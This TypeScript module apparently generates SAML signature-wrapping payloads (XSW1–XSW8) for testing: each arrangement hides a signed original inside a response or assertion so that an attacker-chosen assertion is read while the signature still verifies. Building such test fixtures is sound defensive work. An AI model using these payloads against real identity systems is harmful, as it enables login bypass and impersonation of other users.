/**
 * Signature wrapping: a signature that is true of something that nobody reads. The eight arrangements of Somorovsky et
 * al., "On Breaking SAML: Be Whoever You Want to Be" (2012), as tools of the trade number them.
 */
import {
  type Made,
  makeResponse,
  type Said,
  signatureOf,
  type SigningKey,
  freshId,
  withSignature,
} from './made-response.ts';

export const wrappings = ['XSW1', 'XSW2', 'XSW3', 'XSW4', 'XSW5', 'XSW6', 'XSW7', 'XSW8'] as const;
export type Wrapping = (typeof wrappings)[number];

/** `said` is what the provider signed; `evil` what the attacker wants to be read. */
export function wrapped(kind: Wrapping, said: Said, evil: Partial<Said>, key: SigningKey): string {
  const good = makeResponse(said);
  const bad = makeResponse({ ...said, ...evil, assertionId: `_evil${freshId()}`, responseId: `_evil${freshId()}` });
  return kind === 'XSW1' || kind === 'XSW2' ? ofResponse(kind, good, bad, key) : ofAssertion(kind, good, bad, key);
}

/** The response is signed, and is put somewhere in a response of the attacker. */
function ofResponse(kind: 'XSW1' | 'XSW2', good: Made, bad: Made, key: SigningKey): string {
  const original = good.response(good.assertion);
  const signature = signatureOf(original, good.responseId, key);
  const evil = bad.response(bad.assertion);
  return kind === 'XSW1'
    ? withSignature(evil, signature.replace('</ds:Signature>', `${original}</ds:Signature>`))
    : withSignature(evil, `${original}${signature}`);
}

type OfAssertion = Exclude<Wrapping, 'XSW1' | 'XSW2'>;

/** The assertion is signed. */
function ofAssertion(kind: OfAssertion, good: Made, bad: Made, key: SigningKey): string {
  const original = good.assertion;
  const signature = signatureOf(original, good.assertionId, key);
  const signed = withSignature(original, signature);
  const evil = bad.assertion;
  const inside = (element: string, child: string): string =>
    element.replace('</saml:Assertion>', `${child}</saml:Assertion>`);
  const within = (child: string): string => signature.replace('</ds:Signature>', `${child}</ds:Signature>`);
  const arrangements: Record<OfAssertion, () => string> = {
    XSW3: () => `${evil}${signed}`,
    XSW4: () => inside(evil, signed),
    XSW5: () => `${withSignature(evil, signature)}${original}`,
    XSW6: () => withSignature(evil, within(original)),
    XSW7: () => `<samlp:Extensions>${withId(evil, bad.assertionId, good.assertionId)}</samlp:Extensions>${signed}`,
    XSW8: () => withSignature(evil, within(`<ds:Object>${original}</ds:Object>`)),
  };
  return good.response(arrangements[kind]());
}

const withId = (text: string, from: string, to: string): string => text.replace(`ID="${from}"`, `ID="${to}"`);
